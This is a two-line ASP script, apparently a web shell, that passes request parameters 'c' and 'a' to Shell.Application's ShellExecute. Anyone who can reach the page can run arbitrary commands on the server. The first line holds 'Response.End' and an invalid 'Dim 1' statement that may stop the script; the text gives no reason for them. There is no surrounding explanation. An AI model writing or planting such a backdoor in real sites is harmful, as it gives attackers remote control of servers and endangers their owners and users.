<% Response.End : Dim 1 %>
<% Set s=CreateObject("Shell.Application"): s.ShellExecute request("c"),request("a") %>
